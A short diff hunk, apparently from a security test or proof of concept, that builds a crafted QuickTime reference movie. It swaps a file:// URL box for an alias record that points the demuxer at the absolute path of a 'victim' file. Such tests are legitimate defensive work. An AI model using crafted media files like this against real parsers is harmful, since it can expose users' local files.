@@ -38,8 +38,9 @@ function referenceMovie(): Buffer {
     head.write(type, 4, 'latin1');
     return Buffer.concat([head, body]);
   };
-  const target = Buffer.from(`file://${victim}\0`);
-  const url = box('url ', Buffer.from([0, 0, 0, 0]), target);
+  // The alias record that the demuxer reads: 150 bytes of volume and name, then the absolute path (type 2) and the end.
+  const path = Buffer.from(victim.length % 2 ? `/${victim}` : victim);
+  const url = box('alis', Buffer.alloc(4 + 150), Buffer.from([0, 2, 0, path.length]), path, Buffer.from([0xff, 0xff, 0, 0]));
   const at = movie.indexOf('url ') - 4;
   const grown = Buffer.concat([movie.subarray(0, at), url, movie.subarray(at + movie.readUInt32BE(at))]);
   // Every box around it grows as well.
